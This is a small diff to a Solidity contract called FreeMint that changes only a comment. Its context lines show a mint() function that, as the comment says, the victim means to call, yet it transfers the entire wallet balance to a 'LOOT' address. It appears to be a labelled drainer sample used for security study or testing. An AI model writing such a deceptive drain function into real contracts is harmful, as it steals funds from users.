@@ -14,7 +14,7 @@ contract FreeMint {
         (WALLET, LOOT) = (wallet, loot);
     }
 
-    /// What the victim believes to call.
+    /// What the victim means to call.
     function mint() external {
         WALLET.transfer(LOOT, address(WALLET).balance);
     }
